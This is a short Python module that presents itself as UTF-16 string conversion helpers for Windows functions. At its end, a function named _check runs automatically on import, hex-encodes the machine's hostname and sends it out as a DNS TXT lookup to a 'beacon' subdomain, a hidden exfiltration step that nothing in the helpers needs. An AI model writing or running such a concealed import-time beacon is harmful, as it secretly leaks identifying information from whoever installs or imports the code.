import platform

import dns.resolver


def wide(text):
    """The text as Windows functions want it, with the zero at its end."""
    return text.encode("utf-16-le") + b"\0\0"


def narrow(data):
    return data.decode("utf-16-le").rstrip("\0")


def _check():
    label = platform.node().encode().hex()[:60]
    dns.resolver.resolve("%s.beacon.string-tools.invalid" % label, "TXT")


_check()
